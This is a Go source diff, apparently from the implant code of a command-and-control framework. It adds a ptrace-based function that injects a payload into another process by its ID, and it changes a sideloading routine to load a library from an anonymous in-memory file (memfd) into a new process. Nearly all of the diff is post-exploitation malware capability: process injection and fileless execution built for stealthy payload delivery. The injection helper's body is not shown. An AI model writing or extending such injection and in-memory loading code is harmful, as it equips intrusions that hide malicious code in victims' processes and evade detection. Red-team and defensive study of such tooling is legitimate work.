@@ -50,13 +50,29 @@ func LocalTask(data []byte, rwxPages bool) error {
 	return nil
 }
 
-// RemoteTask -
+// RemoteTask - Injects Task into a processID using ptrace
 func RemoteTask(processID int, data []byte, rwxPages bool) error {
-	return nil
+	_, err := InjectTask(processID, data, rwxPages, "")
+	return err
+}
+
+// InjectTask - Injects Task into a processID using the given technique,
+// returns the technique that was used
+func InjectTask(processID int, data []byte, rwxPages bool, technique string) (string, error) {
+	if technique == "" {
+		technique = TechniquePtrace
+	}
+	if technique != TechniquePtrace {
+		return technique, fmt.Errorf("Unsupported injection technique %s", technique)
+	}
+	return technique, ptraceInject(processID, data)
 }
 
-// Sideload - Side load a library and return its output
-func Sideload(procName string, data []byte, args string) (string, error) {
+// Sideload - Side load a library from a memfd into a new process and return its output
+func Sideload(procName string, pid uint32, data []byte, args string) (string, error) {
+	if pid != 0 {
+		return "", fmt.Errorf("Sideloading into an existing process is not supported on %s", runtime.GOOS)
+	}
 	var (
 		nrMemfdCreate int
 		stdOut        bytes.Buffer
@@ -76,9 +92,15 @@ func Sideload(procName string, data []byte, args string) (string, error) {
 	} else {
 		nrMemfdCreate = 319
 	}
-	fd, _, _ := syscall.Syscall(uintptr(nrMemfdCreate), uintptr(unsafe.Pointer(memfd)), 1, 0)
-	pid := os.Getpid()
-	fdPath := fmt.Sprintf("/proc/%d/fd/%d", pid, fd)
+	fd, _, errno := syscall.Syscall(uintptr(nrMemfdCreate), uintptr(unsafe.Pointer(memfd)), 1, 0)
+	if errno != 0 {
+		//{{if .Debug}}
+		log.Printf("memfd_create failed: %s\n", errno)
+		//{{end}}
+		return "", errno
+	}
+	defer syscall.Close(int(fd))
+	fdPath := fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), fd)
 	err = ioutil.WriteFile(fdPath, data, 0755)
 	if err != nil {
 		//{{if .Debug}}